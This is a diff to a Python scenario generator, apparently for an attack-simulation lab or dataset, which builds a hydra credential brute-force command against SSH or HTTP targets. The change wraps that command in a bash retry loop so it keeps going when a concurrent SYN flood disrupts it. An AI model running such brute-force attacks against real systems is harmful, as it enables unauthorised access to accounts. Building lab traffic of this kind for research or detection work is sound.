@@ -416,11 +416,14 @@ def _hydra(ctx: _Ctx):
     uf, pf, ut, pt = _wordlist(ctx, ctx.n(r.choice([40, 60, 80]), 5))
     tasks = str(r.choice([2, 4, 6] if ctx.variant != "ssh" else [2, 4]))
     svc = [f"{ctx.variant}://{tgt}"] if ctx.variant != "http" else [tgt, "http-get", "/private/"]
-    # -w: how long hydra waits for an answer before it drops the target. At 5 s, a brute force that overlapped a SYN flood
-    # on the same server gave up mid-run ("could not be connected", exit 255) in 2 of 3 smoke runs; the step's own
-    # `timeout` (max_s) bounds it instead.
+    # A brute force that overlaps a SYN flood on the same server can lose it: hydra then gives up at once ("could not be
+    # connected", exit 255), in 2 of 3 smoke runs with -w 5 and still in 2 of 5 clean-clone runs with -w 20 (how long it
+    # waits for an answer). As an attacker would, the step starts it again: at most 3 attempts, 1 s apart, all inside the
+    # step's `timeout` (max_s).
     argv = ["hydra", "-I", "-L", uf, "-P", pf, "-t", tasks, "-w", "20", *svc]
-    return tgt, [Command(ctx.me[0].name, argv)], {uf: ut, pf: pt}
+    path = str(ctx.work / f"{ctx.name}.sh")
+    text = f"for i in 1 2 3; do {shlex.join(argv)}; rc=$?; [ $rc -ne 255 ] && exit $rc; sleep 1; done; exit $rc\n"
+    return tgt, [Command(ctx.me[0].name, ["bash", path])], {uf: ut, pf: pt, path: text}
 
 
 def _medusa(ctx: _Ctx):
